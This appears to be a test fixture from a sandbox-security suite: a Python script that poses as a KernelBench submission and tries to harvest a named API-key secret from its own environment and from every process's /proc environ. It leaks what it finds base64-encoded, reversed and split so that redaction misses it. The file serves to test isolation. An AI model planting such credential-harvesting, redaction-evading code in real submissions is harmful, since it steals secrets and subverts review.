"""Looks for the reviewer's secrets everywhere a child could (its own environment, every process's
environ) and sends what it finds base64-encoded, reversed and split, in its exception and on stdout,
where redaction of the plain value would not catch it. Expected: it finds nothing to send."""

import base64
import os


def attack(t: dict) -> dict:
    name = t.get("name", "KREVIEW_TEST_API_KEY")
    found = [v for k, v in os.environ.items() if k == name]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(name.encode() + b"="):
                        found.append(item.split(b"=", 1)[1].decode())
        except OSError:
            pass
    enc = [base64.b64encode(v.encode()).decode() for v in found] + [v[::-1] for v in found]         + [p for v in found for p in (v[: len(v) // 2], v[len(v) // 2:])]
    print("leak:", " ".join(enc), flush=True)
    return {"found": len(found), "leak": enc}


# -- the same file is a KernelBench submission (the review runs it) and a stdlib script (the
# unprivileged run of the suite): it reports what it achieved, as JSON, in its exception.
def _targets() -> dict:
    import json
    from pathlib import Path

    p = Path(__file__).with_name("targets.json")
    return json.loads(p.read_text()) if p.exists() else {}


try:
    import torch.nn as _nn
except ImportError:  # run as a script
    _nn = None

if _nn is not None:
    class ModelNew(_nn.Module):
        def forward(self, x):
            import json

            raise RuntimeError("KREVIEW-HOSTILE " + json.dumps(attack(_targets())))

if __name__ == "__main__":
    import json
    import sys

    print("KREVIEW-HOSTILE " + json.dumps(attack(json.loads(sys.argv[1]))))

